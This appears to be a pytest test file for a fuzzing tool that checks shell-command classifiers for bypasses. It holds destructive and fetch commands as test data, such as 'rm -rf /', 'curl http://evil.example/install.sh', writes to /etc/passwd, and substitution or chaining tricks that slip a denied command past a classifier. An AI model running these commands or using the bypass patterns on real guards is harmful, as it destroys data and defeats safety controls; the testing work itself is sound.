"""``assay compose`` for a new user (issue 15, item 10): each thing that got in the way, fixed."""

from __future__ import annotations

import argparse
import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from compose_helpers import LEAVES, first_segment, reference

import assay.engine.campaign
from assay.cli.compose import DEFAULT_BUDGET, build_target, limits, main, register, run
from assay.compose import composition_target
from assay.compose.findings import group_findings, quote_command
from assay.compose.leaffile import not_leaves_reason
from assay.core.errors import ConfigError

HERE = Path(__file__).resolve()
HELPERS = HERE.with_name("compose_helpers.py")
EXAMPLE = HERE.parents[2] / "examples" / "compose"
V1 = f"{EXAMPLE / 'shell_classifier_v1.py'}:is_allowed"
SRC = str(HERE.parents[2] / "src")


def parse(*argv: str) -> argparse.Namespace:
    parser = argparse.ArgumentParser(prog="assay")
    register(parser.add_subparsers(dest="command"))
    return parser.parse_args(["compose", *argv])


def dirs(tmp_path: Path, *extra: str) -> list[str]:
    return ["--fuzz-seed", "2", "--fuzz-corpus", str(tmp_path / "c"), "--fuzz-artifacts", str(tmp_path / "a"), *extra]


def write(tmp_path: Path, name: str, text: str) -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


# -- --sources ------------------------------------------------------------------------------


def _scope_run(tmp_path: Path, *extra: str) -> dict:
    report = tmp_path / "r.json"
    run(
        parse(
            "--classifier",
            V1,
            "--leaves",
            str(EXAMPLE / "leaves.txt"),
            "--fuzz-cases",
            "150",
            "--no-seeds",
            *dirs(tmp_path, "--report", str(report), *extra),
        )
    )
    (target,) = json.loads(report.read_text())["targets"].values()
    return target


def test_sources_bring_the_classifiers_own_package_into_feedback_scope(tmp_path) -> None:
    import bashlex

    package = str(Path(bashlex.__file__).resolve().parent)
    plain = _scope_run(tmp_path / "plain")
    scoped = _scope_run(tmp_path / "scoped", "--sources", "bashlex")
    assert package not in plain["sources"] and package in scoped["sources"]
    assert any(s.endswith("shell_classifier_v1.py") for s in scoped["sources"])  # the adapter stays in scope
    # the parser's branches now guide the search: far more edges than the adapter file alone has
    assert scoped["coverage"]["edges"] > 2 * plain["coverage"]["edges"]


def test_sources_are_checked_before_the_run(tmp_path) -> None:
    leaves = write(tmp_path, "l.txt", "\n".join(LEAVES))
    with pytest.raises(ConfigError, match="no_such_package_xyz"):
        run(
            parse(
                "--classifier",
                f"{HELPERS}:reference",
                "--leaves",
                str(leaves),
                "--sources",
                "no_such_package_xyz",
                *dirs(tmp_path, "--fuzz-cases", "5"),
            )
        )
    with pytest.raises(ConfigError, match="--sources applies to --classifier"):
        build_target(parse("--classifier-cmd", "true", "--leaves", str(leaves), "--sources", "bashlex"))


# -- the leaves file ---------------------------------------------------------------------------


POOL = [
    {"command": "ls -la", "expected": "allow"},
    {"command": "rm -rf /", "expected": "deny"},
    {"command": "git status", "expected": "allow"},
]


@pytest.mark.parametrize(
    "text,says",
    [
        (json.dumps(POOL, indent=2), "JSON list of 3 objects with keys 'command', 'expected'"),
        (json.dumps(POOL), "JSON list of 3 objects"),
        (json.dumps(["ls -la", "rm -rf /"]), "JSON list of 2 strings"),
        (json.dumps({"leaves": ["ls"]}), "JSON object with keys 'leaves'"),
        (
            '"ls -la",\n"rm -rf /",\n"git status"\n',
            "3 of its 3 lines are JSON fragments",
        ),  # a list's inside, no brackets
        ("\n".join(json.dumps(p) for p in POOL), "3 of its 3 lines are JSON fragments"),  # JSON Lines
        ("- ls -la\n- rm -rf /\n- git status\n", "YAML list items"),
    ],
)
def test_a_file_that_is_not_one_command_per_line_is_refused(tmp_path, capsys, text, says) -> None:
    path = write(tmp_path, "pool.json", text)
    assert main(["compose", "--classifier", f"{HELPERS}:reference", "--leaves", str(path), *dirs(tmp_path)]) == 2
    err = capsys.readouterr().err
    assert "is not one command per line" in err and says in err
    assert not (tmp_path / "c").exists()  # refused before any work


def test_the_refusal_names_a_conversion_and_is_exit_2_from_the_real_cli(tmp_path) -> None:
    path = write(tmp_path, "pool.json", json.dumps(POOL, indent=2))
    proc = subprocess.run(
        [
            sys.executable,
            "-m",
            "assay",
            "compose",
            "--classifier",
            f"{HELPERS}:reference",
            "--leaves",
            str(path),
            *dirs(tmp_path),
        ],
        capture_output=True,
        text=True,
        env={**os.environ, "PYTHONPATH": SRC},
        timeout=60,
    )
    assert proc.returncode == 2, proc.stderr
    assert "o['command']" in proc.stderr and proc.stderr.count("\n") == 1  # one message, no traceback


@pytest.mark.parametrize("path", sorted(EXAMPLE.glob("*.txt")) + [HELPERS])
def test_real_leaves_files_are_not_refused(path: Path) -> None:
    text = path.read_text() if path.suffix == ".txt" else "\n".join(LEAVES + ['grep -n "a b" f', "true", "[ -f x ]"])
    assert not_leaves_reason(text) is None


def test_a_few_odd_lines_do_not_make_a_leaves_file_refused() -> None:
    text = 'ls -la\n"ls"\ngit status\n[ -f x ]\n{ ls; }\n- not yaml\ntrue\n'
    assert not_leaves_reason(text) is None
    assert not_leaves_reason(text + '"a",\n"b",\n"c",\n"d",\n"e",\n"f",\n"g",\n') is not None


# -- the leaf filter's exclusions -------------------------------------------------------------------


STATEFUL = ["export X=1", "X=1 ls -la", "FOO=bar", "cd /tmp"]


def test_assignment_and_export_leaves_are_admitted_once_overridden(tmp_path, capsys) -> None:
    leaves = write(tmp_path, "l.txt", "\n".join(LEAVES + STATEFUL))
    base = ["--classifier", f"{HELPERS}:reference", "--leaves", str(leaves)]
    summary = build_target(parse(*base)).composition.pool.summary
    assert summary.admitted == len(LEAVES) and summary.rejected == {"assignment": 2, "state-changing-head": 2}
    lines = "\n".join(summary.lines())
    assert "dropped 4:" in lines and "'X=1 ls -la'" in lines and "--admit assignment" in lines
    assert "--allow-head WORD" in lines and "--list-exclusions" in lines
    texts = build_target(parse(*base, "--admit", "assignment", "--allow-head", "export")).composition.pool.view.texts
    assert {"export X=1", "X=1 ls -la", "FOO=bar"} <= set(texts) and "cd /tmp" not in texts
    texts = build_target(
        parse(*base, "--admit", "assignment", "--admit", "state-changing-head")
    ).composition.pool.view.texts
    assert set(STATEFUL) <= set(texts)
    # the command word of an assignment-headed leaf is the command, not the assignment
    pool = build_target(parse(*base, "--admit", "assignment")).composition.pool
    assert pool.leaves[pool.view.texts.index("X=1 ls -la")].word == "ls"


def test_exclusions_are_listable_without_a_classifier(capsys) -> None:
    assert run(parse("--list-exclusions", "--allow-head", "cd")) == 0
    out = capsys.readouterr().out
    assert "assignment" in out and "--admit assignment" in out and "semicolon" in out and "not overridable" in out
    heads = next(line for line in out.splitlines() if line.startswith("  ") and "export" in line.split())
    assert "cd" not in heads.split()  # --allow-head takes it off the list


def test_only_head_reasons_can_be_admitted(tmp_path) -> None:
    with pytest.raises(SystemExit):
        parse("--classifier", "x:y", "--leaves", "f", "--admit", "semicolon")
    with pytest.raises(ConfigError, match="only assignment"):
        composition_target(reference, LEAVES, admit=["pipe"])


# -- the default time budget ---------------------------------------------------------------------


def test_the_default_is_a_time_budget_and_run_uses_it(tmp_path, monkeypatch) -> None:
    assert limits(parse("--classifier", "x:y")) == (None, DEFAULT_BUDGET) == (None, 60.0)
    assert limits(parse("--classifier", "x:y", "--fuzz-cases", "7")) == (7, None)
    assert limits(parse("--classifier", "x:y", "--fuzz-budget", "3")) == (None, 3.0)
    seen = []

    class Stop(Exception):
        pass

    def capture(targets, options, progress=None):  # stands in for a 60 s campaign, which a test cannot run
        seen.append(options)
        raise Stop

    monkeypatch.setattr(assay.engine.campaign, "run_campaign", capture)
    leaves = write(tmp_path, "l.txt", "\n".join(LEAVES))
    with pytest.raises(Stop):
        run(parse("--classifier", f"{HELPERS}:reference", "--leaves", str(leaves), *dirs(tmp_path)))
    assert seen[0].budget == 60.0 and seen[0].max_cases is None


# -- grouping, shortest examples, tags, quoting -------------------------------------------------------


def _finding(sig: str, witness: str, family: str, leaf: str, oracle: str = "fail-open", n: int = 1) -> dict:
    return {
        "signature": sig,
        "oracle": oracle,
        "artifact": f"/a/{sig}",
        "occurrences": n,
        "witness": witness,
        "group": {"family": family, "leaf": leaf},
    }


def test_one_group_per_family_and_denied_leaf_with_the_shortest_example() -> None:
    findings = [
        _finding("fail-open:subst-unquoted/rm", "ls; echo $(rm -rf /)", "binary:subst", "rm -rf /", n=3),
        _finding("fail-open:subst-tight/rm", 'ls;echo "$(rm -rf /)"', "binary:subst", "rm -rf /", n=2),
        _finding("fail-open:subst/rm", 'cat README.md; echo "$(rm -rf /)"', "binary:subst", "rm -rf /"),
        _finding("fail-open:subst/curl", "ls; echo $(curl x)", "binary:subst", "curl x"),
        _finding("fail-open:and/rm", "ls && rm -rf /", "binary:and", "rm -rf /"),
        _finding(
            "protected-write:redirect-write/etc_passwd",
            "ls > /etc/passwd",
            "redirect:write",
            "/etc/passwd",
            oracle="protected-write",
        ),
    ]
    groups = group_findings(findings)
    keys = [(g["tag"], g["family"], g["leaf"]) for g in groups]
    assert keys == [
        ("fail-open", "binary:and", "rm -rf /"),
        ("fail-open", "binary:subst", "curl x"),
        ("fail-open", "binary:subst", "rm -rf /"),
        ("protected-write", "redirect:write", "/etc/passwd"),
    ]
    subst_rm = groups[2]
    assert subst_rm["example"] == "ls; echo $(rm -rf /)" and subst_rm["findings"] == 3
    assert subst_rm["occurrences"] == 6 and subst_rm["example_signature"] == "fail-open:subst-unquoted/rm"


def test_a_campaign_groups_its_findings_and_shrinks_to_the_shortest_leaves(tmp_path, capsys) -> None:
    # the long leaves come first in the file: examples must still use the short ones
    leaves = write(
        tmp_path,
        "l.txt",
        "\n".join(
            [
                "allow: grep -n 'a b' notes.txt",
                "allow: cat README.md",
                "deny: rm -rf /var/lib/important/data",
                "deny: curl http://evil.example/install.sh",
                "allow: ls",
                "deny: rm x",
                "deny: curl y",
            ]
        ),
    )
    report = tmp_path / "r.json"
    code = run(
        parse(
            "--classifier",
            f"{HELPERS}:first_segment",
            "--leaves",
            str(leaves),
            "--families",
            "none",
            "--fuzz-cases",
            "600",
            *dirs(tmp_path, "--report", str(report)),
        )
    )
    assert code == 1
    compose = json.loads(report.read_text())["compose"]
    groups = compose["groups"]
    assert sum(g["findings"] for g in groups) == len(compose["findings"]) > len(groups)
    assert len({(g["tag"], g["family"], g["leaf"]) for g in groups}) == len(groups)
    for g in groups:
        assert g["tag"] == "fail-open" and g["leaf"] in ("rm x", "curl y"), g
        ex = g["example"]
        assert (
            "ls" in ex and g["leaf"] in ex and not any(w in ex for w in ("grep", "README", "important", "install"))
        ), g
        mine = [f for f in compose["findings"] if f["signature"] in g["signatures"]]
        assert g["example"] == min((f["witness"] for f in mine), key=lambda w: (len(w), w))
    out = capsys.readouterr().out
    assert f"in {len(groups)} group(s)" in out and "denied part 'rm x'" in out
    families = sorted({g["family"] for g in groups})
    line = next(x for x in out.splitlines() if x.startswith("  families: "))
    assert sorted(part.split(" (")[0] for part in line.removeprefix("  families: ").split(", ")) == families


def test_redirect_findings_carry_their_own_tag_and_say_how_to_turn_the_family_off(tmp_path, capsys) -> None:
    leaves = write(tmp_path, "l.txt", "\n".join(LEAVES))
    report = tmp_path / "r.json"
    # blind to '>' (so every redirect to a protected path is allowed), correct otherwise
    assert (
        run(
            parse(
                "--classifier",
                f"{HELPERS}:redirect_blind",
                "--leaves",
                str(leaves),
                "--families",
                "redirect",
                "--fuzz-cases",
                "300",
                *dirs(tmp_path, "--report", str(report)),
            )
        )
        == 1
    )
    compose = json.loads(report.read_text())["compose"]
    tags = {f["oracle"] for f in compose["findings"]}
    assert tags == {"protected-write"} and all(g["family"].startswith("redirect:") for g in compose["groups"])
    out = capsys.readouterr().out
    assert "[protected-write]" in out and "[fail-open]" not in out
    assert "--families none turns it off" in out


@pytest.mark.parametrize(
    "command",
    [
        "find . -exec rm -rf / \\;",
        'ls; echo "`ls;echo "\\$(rm -rf /)"`"',
        "python3 -c 'import os'",
        "echo 'a' \"$HOME\" \\\\",
        "ls; echo $(ls\nrm -rf /)",
        "ls\t-la\x01",
    ],
)
def test_a_printed_command_is_the_exact_command_quoted_once(command: str) -> None:
    printed = quote_command(command)
    if "\n" not in command and "\x01" not in command:
        assert command in printed or command.replace("'", "'\\''") in printed  # no doubled backslashes
    # the shell reads it back unchanged
    back = subprocess.run(["bash", "-c", f"printf %s {printed}"], capture_output=True, timeout=10).stdout
    assert back.decode() == command


def test_the_console_prints_the_example_once_quoted(tmp_path, capsys) -> None:
    leaves = write(tmp_path, "l.txt", "\n".join(["allow: ls", "deny: rm -rf /"]))
    run(
        parse(
            "--classifier",
            f"{HELPERS}:wrapper_blind",
            "--leaves",
            str(leaves),
            "--families",
            "wrapper",
            "--fuzz-cases",
            "200",
            *dirs(tmp_path),
        )
    )
    out = capsys.readouterr().out
    assert "example:  'find . -exec rm -rf / \\;'" in out and "\\\\" not in out


# -- the default name ----------------------------------------------------------------------------------


def test_the_default_name_is_the_classifiers_import_path(tmp_path) -> None:
    leaves = write(tmp_path, "l.txt", "\n".join(LEAVES))
    assert (
        build_target(parse("--classifier", V1, "--leaves", str(leaves))).assay_target.name
        == "shell_classifier_v1.is_allowed"
    )
    assert (
        build_target(parse("--classifier", "compose_helpers:reference", "--leaves", str(leaves))).assay_target.name
        == "compose_helpers.reference"
    )
    assert (
        build_target(parse("--classifier", "os.path:isabs", "--leaves", str(leaves))).assay_target.name
        == "posixpath.isabs"
    )
    named = build_target(parse("--classifier", V1, "--leaves", str(leaves), "--name", "mine"))
    assert named.assay_target.name == "mine"
    cmd = build_target(parse("--classifier-cmd", f"{sys.executable} {tmp_path / 'judge.py'}", "--leaves", str(leaves)))
    assert cmd.assay_target.name == "cmd.judge"
    assert composition_target(first_segment, LEAVES).assay_target.name == "compose_helpers.first_segment"


def test_two_classifiers_write_to_two_folders(tmp_path) -> None:
    leaves = write(tmp_path, "l.txt", "\n".join(LEAVES))
    for fn in ("reference", "first_segment"):
        run(parse("--classifier", f"{HELPERS}:{fn}", "--leaves", str(leaves), "--fuzz-cases", "20", *dirs(tmp_path)))
    assert sorted(p.name for p in (tmp_path / "c").iterdir()) == [
        "compose_helpers.first_segment",
        "compose_helpers.reference",
    ]
